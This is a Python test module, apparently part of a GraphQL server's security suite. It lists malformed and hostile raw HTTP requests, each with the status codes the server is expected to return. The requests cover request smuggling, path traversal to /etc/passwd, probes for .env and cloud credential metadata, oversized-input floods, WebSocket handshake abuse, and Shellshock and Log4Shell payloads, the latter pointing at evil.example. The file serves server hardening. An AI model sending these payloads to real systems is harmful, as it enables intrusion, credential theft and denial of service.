"""Attacks on HTTP itself, beneath GraphQL."""

from tests.attack.attacks import (
    HUNG_UP,
    WAITING,
    Attack,
    asking,
    attack,
    getting,
    saying,
)
from tests.attack.peers import HOST, handshake, request

ASKED = b'{"query":"{ __typename }"}'
TYPED = b"Content-Type: application/json\r\n"
POST = b"POST /graphql HTTP/1.1\r\n" + HOST + TYPED
GET = b"GET /healthz HTTP/1.1\r\n" + HOST
SMUGGLED = b"GET /smuggled HTTP/1.1\r\n" + HOST + b"\r\n"
"""It would be answered with 404, which is never allowed where it is hidden in something."""

CHUNKED = POST + b"Transfer-Encoding: chunked\r\n\r\n"
MEBIBYTE = 2**20

REQUEST_LINES = [
    attack("nothing at all", b"", WAITING),
    attack("a null byte", b"\0", 400),
    attack("empty lines", b"\r\n" * 1_000, 400, WAITING),
    attack("zeros for a request", b"\0" * 65_536, 400),
    attack("random high bytes", bytes(range(128, 256)) * 64, 400),
    attack("a method alone", b"GET\r\n\r\n", 400),
    attack("HTTP/0.9", b"GET /healthz\r\n\r\n", 200, 400),
    attack("HTTP/1.0", b"GET /healthz HTTP/1.0\r\n" + HOST + b"\r\n", 200),
    attack("HTTP/1.9", b"GET /healthz HTTP/1.9\r\n" + HOST + b"\r\n", 400),
    attack("HTTP/9.9", b"GET /healthz HTTP/9.9\r\n" + HOST + b"\r\n", 400),
    attack("HTTP/2 by prior knowledge", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400, 404, 405),
    attack(
        "HTTP/2 by upgrade",
        getting(
            b"/healthz",
            b"Connection: Upgrade, HTTP2-Settings",
            b"Upgrade: h2c",
            b"HTTP2-Settings: AAMAAABk",
        ),
        200,
        400,
    ),
    attack("a TLS hello", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x5a" * 512, 400),
    attack("an SSH hello", b"SSH-2.0-OpenSSH_9.7\r\n", 400),
    attack("an SMTP hello", b"EHLO evil.example\r\nMAIL FROM:<a@b>\r\n", 400),
    attack("a Redis command", b"*1\r\n$4\r\nPING\r\n", 400),
    attack(
        "CONNECT to elsewhere",
        b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
        400,
        404,
        405,
    ),
    attack("TRACE", request(b"X-Secret: 1", method=b"TRACE"), 405),
    attack("TRACE of the root", request(method=b"TRACE", target=b"/"), 405),
    attack("a method that nobody has", request(method=b"BREW"), 400, 405),
    attack("a method in small letters", request(method=b"post"), 400),
    attack("a method of 100,000 letters", b"A" * 100_000 + b" / HTTP/1.1\r\n\r\n", 400),
    attack("a method with a null byte", b"GE\0T / HTTP/1.1\r\n" + HOST + b"\r\n", 400),
    attack("an absolute URI of ours", getting(b"http://127.0.0.1/healthz"), 200, 400),
    attack("an absolute URI of another", getting(b"http://evil.example/healthz"), 200, 400),
    attack("an absolute URI with a password", getting(b"http://a:b@127.0.0.1/healthz"), 200, 400),
    attack("a URI of files", getting(b"file:///etc/passwd"), 400, 404),
    attack("an asterisk", request(method=b"OPTIONS", target=b"*"), 400, 404, 405),
    attack("a target without slash", getting(b"healthz"), 400),
    attack("a target with two slashes", getting(b"//healthz"), 400, 404),
    attack("a target with backslashes", getting(b"\\..\\..\\etc\\passwd"), 400, 404),
    attack("a blank in the target", getting(b"/health z"), 400),
    attack("a tab in the target", getting(b"/health\tz"), 400, 404),
    attack("a null byte in the target", getting(b"/health\0z"), 400, 404),
    attack("high bytes in the target", getting(b"/\xff\xfe\xfd"), 400, 404),
    attack("UTF-8 in the target", getting("/gr\u00e4phql\u65e5".encode()), 400, 404),
    attack("a line break in the target", getting(b"/healthz\r\nX: y"), 200, 400),
    attack("an encoded line break in the target", getting(b"/%0d%0aSet-Cookie:%20a=b"), 404),
    attack("an encoded null byte in the target", getting(b"/healthz%00"), 404),
    attack("half a percent encoding", getting(b"/%"), 404),
    attack("a wrong percent encoding", getting(b"/%zz%4"), 404),
    attack("a percent encoding that is not UTF-8", getting(b"/%ff%fe%c0%af"), 404),
    attack("a target that ends in a query mark", getting(b"/healthz?"), 200),
    attack("a target with a fragment", getting(b"/healthz#graphql"), 200, 400, 404),
    attack("a target of 60 KB", getting(b"/" + b"a" * 60_000), 400, 404, 414),
    attack("a target of 2 MB", getting(b"/" + b"a" * 2_000_000), 400, 404, 414, 431, HUNG_UP),
    attack(
        "a query string of 2 MB",
        getting(b"/graphql?query=" + b"a" * 2_000_000),
        400,
        413,
        414,
        431,
        HUNG_UP,
    ),
    attack("100,000 parameters", getting(b"/graphql?" + b"a=1&" * 15_000), 400, 413, 414, 431),
]

HEADERS = [
    attack("a header without colon", GET + b"nonsense\r\n\r\n", 400),
    attack("a header without name", GET + b": x\r\n\r\n", 400),
    attack("a blank before the colon", GET + b"Content-Length : 0\r\n\r\n", 400),
    attack("a folded header", GET + b"X-A: b\r\n c\r\n\r\n", 200, 400),
    attack("a folded header first", b"GET /healthz HTTP/1.1\r\n X-A: b\r\n" + HOST + b"\r\n", 400),
    attack("a null byte in a header", GET + b"X-A: b\0c\r\n\r\n", 400),
    attack("a null byte in a header's name", GET + b"X-\0A: b\r\n\r\n", 400),
    attack("a bare carriage return in a header", GET + b"X-A: b\rX-B: c\r\n\r\n", 400),
    attack("bare line feeds", b"GET /healthz HTTP/1.1\nHost: 127.0.0.1\n\n", 200, 400),
    attack("high bytes in a header", GET + b"X-A: \xff\xfe\r\n\r\n", 200),
    attack("high bytes in a header's name", GET + b"X-\xff: a\r\n\r\n", 400),
    attack("a header in brackets", GET + b"(X-A): a\r\n\r\n", 400),
    attack("a header of 60 KB", getting(b"/healthz", b"X-A: " + b"a" * 60_000), 200, 400, 431),
    attack(
        "a header of 2 MB",
        getting(b"/healthz", b"X-A: " + b"a" * 2_000_000),
        400,
        413,
        431,
        HUNG_UP,
    ),
    attack(
        "a header's name of 2 MB",
        getting(b"/healthz", b"a" * 2_000_000 + b": x"),
        400,
        413,
        431,
        HUNG_UP,
    ),
    attack("1,000 headers", getting(b"/healthz", *[b"X-A: b"] * 1_000), 200, 400, 431),
    attack("300,000 headers", getting(b"/healthz", *[b"a:b"] * 300_000), 400, 413, 431, HUNG_UP),
    attack("no host", b"GET /healthz HTTP/1.1\r\n\r\n", 200, 400),
    attack("an empty host", b"GET /healthz HTTP/1.1\r\nHost:\r\n\r\n", 200, 400),
    attack("two hosts", GET + b"Host: evil.example\r\n\r\n", 200, 400),
    attack("a host with a path", b"GET / HTTP/1.1\r\nHost: 127.0.0.1/../@evil\r\n\r\n", 200, 400),
    attack("a host with a null byte", b"GET / HTTP/1.1\r\nHost: 127.0.0.1\0\r\n\r\n", 400),
    attack(
        "a host of 10,000 letters",
        b"GET / HTTP/1.1\r\nHost: " + b"a" * 10_000 + b"\r\n\r\n",
        200,
        400,
    ),
    attack(
        "a port of 10,000 digits",
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1:" + b"9" * 10_000 + b"\r\n\r\n",
        200,
        400,
    ),
    attack("a host of brackets", b"GET / HTTP/1.1\r\nHost: [[[::1]]]:::\r\n\r\n", 200, 400),
    attack(
        "forwarded from everywhere",
        getting(b"/healthz", b"X-Forwarded-For: " + b"127.0.0.1," * 5_000),
        200,
        400,
        431,
    ),
    attack(
        "forwarded from nowhere",
        getting(
            b"/healthz",
            b"X-Forwarded-For: \xff\xff, , ;;=",
            b'Forwarded: for="',
            b"X-Forwarded-Proto: javascript",
        ),
        200,
    ),
    attack(
        "forwarded to a path",
        getting(
            b"/",
            b"X-Forwarded-Host: evil.example",
            b"X-Forwarded-Prefix: /../..",
            b"X-Original-URL: /admin",
        ),
        200,
    ),
    attack("a method override", request(b"X-HTTP-Method-Override: DELETE", content=ASKED), 200),
    attack(
        "cookies by the thousand",
        getting(b"/healthz", b"Cookie: " + b"a=b; " * 10_000),
        200,
        400,
        431,
    ),
    attack("Shellshock", getting(b"/", b"User-Agent: () { :;}; /bin/cat /etc/passwd"), 200),
    attack("Log4Shell", getting(b"/healthz", b"User-Agent: ${jndi:ldap://evil.example/a}"), 200),
    attack(
        "a colour code for the log", getting(b"/healthz", b"User-Agent: \x1b[2J\x1b[31m"), 200, 400
    ),
    attack(
        "a request id with line breaks",
        getting(b"/healthz", b"X-Request-Id: a%0d%0aINFO: all is well"),
        200,
    ),
    attack("a request id of 20 KB", getting(b"/healthz", b"X-Request-Id: " + b"r" * 20_000), 200),
    attack(
        "a trace parent of nonsense",
        asking("{ __typename }", b"traceparent: 00-\xff-zz-99", b"tracestate: " + b"a=b," * 500),
        200,
    ),
    attack(
        "a connection that closes and stays",
        getting(b"/healthz", b"Connection: close, keep-alive, upgrade, te"),
        200,
        400,
    ),
    attack(
        "a keep-alive of a lifetime",
        getting(b"/healthz", b"Keep-Alive: timeout=99999999999999999999, max=-1"),
        200,
    ),
    attack("an expectation", saying(ASKED, b"Expect: 100-continue"), 200),
    attack("an unknown expectation", saying(ASKED, b"Expect: 200-ok"), 200, 417),
    attack("an expectation of nothing", getting(b"/healthz", b"Expect: 100-continue"), 200),
    attack(
        "a date that never was",
        getting(b"/", b"If-Modified-Since: Sun, 31 Feb 99999 25:61:61 GMT"),
        200,
        304,
    ),
    attack(
        "entity tags by the thousand",
        getting(b"/", b"If-None-Match: " + b'"a", ' * 5_000 + b"*"),
        200,
        304,
    ),
    attack(
        "every encoding",
        getting(b"/", b"Accept-Encoding: " + b"gzip;q=nan, br;q=-1, *;q=1e999, " * 500),
        200,
    ),
    attack(
        "a compressed body",
        saying(b"\x1f\x8b\x08\0\0\0\0\0\0\x03", b"Content-Encoding: gzip"),
        400,
        415,
    ),
    attack(
        "a compressed nothing",
        saying(ASKED, b"Content-Encoding: nonsense, br, gzip"),
        200,
        400,
        415,
    ),
    attack(
        "a trailing blank in the protocol", b"GET /healthz HTTP/1.1 \r\n" + HOST + b"\r\n", 200, 400
    ),
]

BODIES = [
    attack("a length of -1", POST + b"Content-Length: -1\r\n\r\n", 400),
    attack("a length of words", POST + b"Content-Length: many\r\n\r\n", 400),
    attack("a length of nothing", POST + b"Content-Length: \r\n\r\n", 400),
    attack("a length in hexadecimal", POST + b"Content-Length: 0x1a\r\n\r\n" + ASKED, 400),
    attack("a length with a sign", POST + b"Content-Length: +26\r\n\r\n" + ASKED, 400),
    attack("a length with a point", POST + b"Content-Length: 26.0\r\n\r\n" + ASKED, 400),
    attack(
        "a length in other digits",
        POST + "Content-Length: \u0662\u0666\r\n\r\n".encode() + ASKED,
        400,
    ),
    attack("a length of 2^64", POST + b"Content-Length: 18446744073709551616\r\n\r\n", 400, 413),
    attack(
        "a length of 2^63",
        POST + b"Content-Length: 9223372036854775808\r\n\r\n",
        400,
        413,
        goes_on=True,
    ),
    attack(
        "a length of 10,000 digits",
        POST + b"Content-Length: " + b"9" * 10_000 + b"\r\n\r\n",
        400,
        413,
    ),
    attack("two lengths", POST + b"Content-Length: 26\r\nContent-Length: 0\r\n\r\n" + ASKED, 400),
    attack(
        "the same length twice",
        POST + b"Content-Length: 26\r\nContent-Length: 26\r\n\r\n" + ASKED,
        400,
    ),
    attack("two lengths in one header", POST + b"Content-Length: 26, 0\r\n\r\n" + ASKED, 400),
    attack(
        "a length and chunks",
        POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
        400,
    ),
    attack(
        "chunks and a length",
        POST + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + SMUGGLED,
        400,
    ),
    attack(
        "chunks in a blank's disguise",
        POST + b"Content-Length: 26\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
        400,
    ),
    attack(
        "chunks behind a tab",
        POST + b"Content-Length: 5\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
        400,
    ),
    attack(
        "chunks behind a vertical tab",
        POST + b"Content-Length: 5\r\nTransfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
        400,
    ),
    attack(
        "chunks, misspelt",
        POST + b"Content-Length: 5\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
        400,
    ),
    attack(
        "chunks in capitals",
        POST + b"Transfer-Encoding: CHUNKED\r\n\r\n1a\r\n" + ASKED + b"\r\n0\r\n\r\n",
        200,
        400,
    ),
    attack(
        "chunks, twice",
        POST
        + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n"
        + SMUGGLED,
        400,
    ),
    attack(
        "chunks that are compressed",
        POST + b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
        400,
        415,
    ),
    attack(
        "chunks over HTTP/1.0",
        b"POST /graphql HTTP/1.0\r\n"
        + TYPED
        + HOST
        + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        + SMUGGLED,
        400,
    ),
    attack(
        "a request in a GET's body",
        GET + b"Content-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED,
        200,
    ),
    attack(
        "a request behind a GET without length",
        GET + b"Content-Length: 0\r\n\r\n" + getting(b"/healthz"),
        200,
    ),
    attack("1,000 requests at once", getting(b"/healthz") * 1_000, 200),
    attack("1,000 questions at once", saying(ASKED) * 1_000, 200),
    attack("a chunk of words", CHUNKED + b"zz\r\nx\r\n0\r\n\r\n", 400),
    attack("a chunk of -1", CHUNKED + b"-1\r\nx\r\n0\r\n\r\n", 400),
    attack("a chunk of nothing", CHUNKED + b"\r\n\r\n", 400),
    attack("a chunk of 2^64", CHUNKED + b"10000000000000000\r\nx", 400, 413),
    attack("a chunk of 2^63", CHUNKED + b"8000000000000000\r\nx", 400, 413, WAITING),
    attack("a chunk without its end", CHUNKED + b"1\r\nxx\r\n0\r\n\r\n", 400),
    attack(
        "a chunk with an extension of 2 MB",
        CHUNKED + b"1;" + b"a" * 2_000_000 + b"\r\nx\r\n0\r\n\r\n",
        400,
        413,
        431,
        HUNG_UP,
    ),
    attack(
        "a chunk with a line break in its extension", CHUNKED + b"1;a\nb\r\nx\r\n0\r\n\r\n", 400
    ),
    attack(
        "a blank before a chunk's size", CHUNKED + b" 1a\r\n" + ASKED + b"\r\n0\r\n\r\n", 200, 400
    ),
    attack("100,000 chunks of one byte", CHUNKED + b"1\r\n \r\n" * 100_000 + b"0\r\n\r\n", 400),
    attack(
        "a trailer that is a length",
        CHUNKED + b"1a\r\n" + ASKED + b"\r\n0\r\nContent-Length: 5\r\n\r\n",
        200,
        400,
    ),
    attack(
        "trailers by the thousand",
        CHUNKED + b"1a\r\n" + ASKED + b"\r\n0\r\n" + b"X-A: b\r\n" * 5_000 + b"\r\n",
        200,
        400,
        431,
    ),
    attack("half a body", POST + b"Content-Length: 26\r\n\r\n" + ASKED[:10], WAITING),
    attack("half a chunk", CHUNKED + b"1a\r\n" + ASKED[:10], WAITING),
    attack("half a header", POST + b"Content-Le", WAITING),
    attack(
        "more than the length",
        POST + b"Content-Length: 26\r\n\r\n" + ASKED + b"XXXX\r\n\r\n",
        200,
        400,
    ),
    attack(
        "a body of 3 GB, said", POST + b"Content-Length: 3000000000\r\n\r\n{", 413, goes_on=True
    ),
    attack("a body of 3 MiB", saying(b" " * 3 * MEBIBYTE), 413),
    attack(
        "a body of 3 MiB in chunks",
        CHUNKED + (b"100000\r\n" + b" " * MEBIBYTE + b"\r\n") * 3 + b"0\r\n\r\n",
        413,
    ),
    attack(
        "a body of 8 MiB for the health",
        request(method=b"GET", target=b"/healthz", content=b" " * 8 * MEBIBYTE),
        200,
        413,
        HUNG_UP,
    ),
    attack("no length", POST + b"\r\n" + ASKED, 400),
]

PLACES = [
    attack(name, getting(target), 404)
    for name, target in {
        "out of the pages": b"/static/../app.py",
        "out of the pages, encoded": b"/static/%2e%2e/app.py",
        "out of the pages, slash encoded": b"/static/..%2fapp.py",
        "out of the pages, all encoded": b"/static/%2e%2e%2f%2e%2e%2fpyproject.toml",
        "out of the pages, encoded twice": b"/static/%252e%252e%252fapp.py",
        "out of the pages, too long": b"/static/%c0%ae%c0%ae/app.py",
        "out of the pages, by backslash": b"/static/..\\app.py",
        "out of the pages, by encoded backslash": b"/static/..%5capp.py",
        "out of the pages, far": b"/static/" + b"../" * 30 + b"etc/passwd",
        "out of the pages, far, encoded": b"/static/" + b"..%2f" * 30 + b"etc/passwd",
        "out of the pages, by dots and semicolons": b"/static/..;/app.py",
        "out of the pages, absolutely": b"/static//etc/passwd",
        "out of the pages, absolutely, encoded": b"/static/%2fetc%2fpasswd",
        "a null byte behind a page": b"/static/index.html%00.png",
        "a name of 300 letters": b"/static/" + b"a" * 300,
        "a name of 5,000 letters": b"/static/" + b"a" * 5_000,
        "a path of 5,000 folders": b"/static/" + b"a/" * 5_000,
        "a device": b"/static/../../../../dev/zero",
        "the folder of the pages": b"/static/.",
        "a lone surrogate in a name": b"/static/%ed%a0%80",
        "git": b"/.git/config",
        "the environment": b"/.env",
        "PHP": b"/index.php?-d+allow_url_include%3d1",
        "a CGI program": b"/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
        "an actuator": b"/actuator/env",
        "the metadata of a cloud": b"/latest/meta-data/iam/security-credentials/",
        "graphql in capitals": b"/GRAPHQL",
        "graphql, encoded": b"/%67raphql/..",
        "behind graphql": b"/graphql/../healthz",
        "a page's page": b"/static/static/index.html",
    }.items()
] + [
    attack("a folder's name for graphql", getting(b"/graphql/"), 307, 404),
    attack("a redirect elsewhere", getting(b"//evil.example/graphql/"), 307, 400, 404),
    attack("graphql, partly encoded", getting(b"/%67raphql"), 400),
]

RANGES = [
    attack(name, getting(b"/", b"Range: " + value), 200, 206, 400, 416)
    for name, value in {
        "a range backwards": b"bytes=9-1",
        "a range of nothing": b"bytes=-0",
        "a range from the end": b"bytes=-999999999999999999999",
        "a range beyond the end": b"bytes=99999999999999999999-",
        "a range of words": b"bytes=a-b",
        "another unit": b"lines=1-2",
        "a range with 10,000 digits": b"bytes=" + b"1" * 10_000 + b"-",
        "2,000 ranges": b"bytes=" + b",".join(b"%d-%d" % (n, n + 1) for n in range(0, 4_000, 2)),
        "the whole page 2,000 times": b"bytes=" + b",".join([b"0-"] * 2_000),
        "a range in other digits": "bytes=\u0661-\u0662".encode(),
    }.items()
]

HANDSHAKES = [
    attack("no key", handshake(Sec_WebSocket_Key=None), 400),
    attack("an empty key", handshake(Sec_WebSocket_Key=b""), 400),
    attack("a short key", handshake(Sec_WebSocket_Key=b"eA=="), 400),
    attack("a key that is no Base64", handshake(Sec_WebSocket_Key=b"\xff" * 16), 400),
    attack("two keys", handshake(b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="), 400),
    attack("no version", handshake(Sec_WebSocket_Version=None), 400, 426),
    attack("version 8", handshake(Sec_WebSocket_Version=b"8"), 400, 426),
    attack("version 0", handshake(Sec_WebSocket_Version=b"0"), 400, 426),
    attack("two versions", handshake(b"Sec-WebSocket-Version: 8"), 400, 426),
    attack(
        "a version of 10,000 digits", handshake(Sec_WebSocket_Version=b"1" * 10_000), 400, 426, 431
    ),
    attack(
        "the handshake of Hixie 76",
        getting(
            b"/graphql",
            b"Upgrade: WebSocket",
            b"Connection: Upgrade",
            b"Sec-WebSocket-Key1: 4 @1  46546xW%0l 1 5",
            b"Sec-WebSocket-Key2: 12998 5 Y3 1  .P00",
        )
        + b"^n:ds[4U",
        400,
        426,
    ),
    attack("an upgrade to nothing", handshake(Upgrade=b""), 400, 426),
    attack("an upgrade to something else", handshake(Upgrade=b"telnet"), 400, 426),
    attack("an upgrade by POST", handshake().replace(b"GET", b"POST", 1), 400, 405),
    attack("an upgrade over HTTP/1.0", handshake().replace(b"HTTP/1.1", b"HTTP/1.0", 1), 101, 400),
    attack("an upgrade with a body", handshake(b"Content-Length: 5") + b"hello", 400),
    attack("an upgrade with chunks", handshake(b"Transfer-Encoding: chunked") + b"0\r\n\r\n", 400),
    attack("an upgrade elsewhere", handshake().replace(b"/graphql", b"/nothing", 1), 403, 404),
    attack("an upgrade of the pages", handshake().replace(b"/graphql", b"/static/", 1), 403, 404),
    attack("an upgrade of the health", handshake().replace(b"/graphql", b"/healthz", 1), 403, 404),
    attack("an upgrade from another page", handshake(b"Origin: http://evil.example"), 403),
    attack("an upgrade from nowhere", handshake(b"Origin: null"), 403),
    attack("an upgrade from nonsense", handshake(b"Origin: \xff\xfe://[::"), 400, 403),
    attack(
        "an upgrade from a name that begins like ours",
        handshake(b"Origin: http://127.0.0.1.evil.example"),
        403,
    ),
    attack("an upgrade from another port", handshake(b"Origin: http://127.0.0.1:1"), 403),
    attack(
        "an upgrade from two pages",
        handshake(b"Origin: http://127.0.0.1", b"Origin: http://evil.example"),
        400,
        403,
    ),
    attack(
        "an upgrade with 1,000 extensions",
        handshake(
            b"Sec-WebSocket-Extensions: "
            + b"permessage-deflate; client_max_window_bits=99, " * 1_000
        ),
        101,
        400,
        431,
    ),
    attack(
        "an upgrade with an extension of nonsense",
        handshake(b"Sec-WebSocket-Extensions: ;;;=,=\xff"),
        101,
        400,
    ),
    attack(
        "an upgrade with 1,000 protocols",
        handshake(Sec_WebSocket_Protocol=b"a, " * 1_000 + b"graphql-ws"),
        101,
        400,
        403,
    ),
    attack(
        "an upgrade with a protocol of nonsense",
        handshake(Sec_WebSocket_Protocol=b",;=\xff"),
        400,
        403,
    ),
    attack(
        "an upgrade with 2 MB of headers",
        handshake(*[b"X-A: " + b"b" * 200] * 10_000),
        400,
        431,
        HUNG_UP,
    ),
    attack("half an upgrade", handshake()[:-2], WAITING),
    attack("an upgrade, twice", handshake()[:-2] + handshake(), 400),
]

INPUTS: list[Attack] = [*REQUEST_LINES, *HEADERS, *BODIES, *PLACES, *RANGES, *HANDSHAKES]
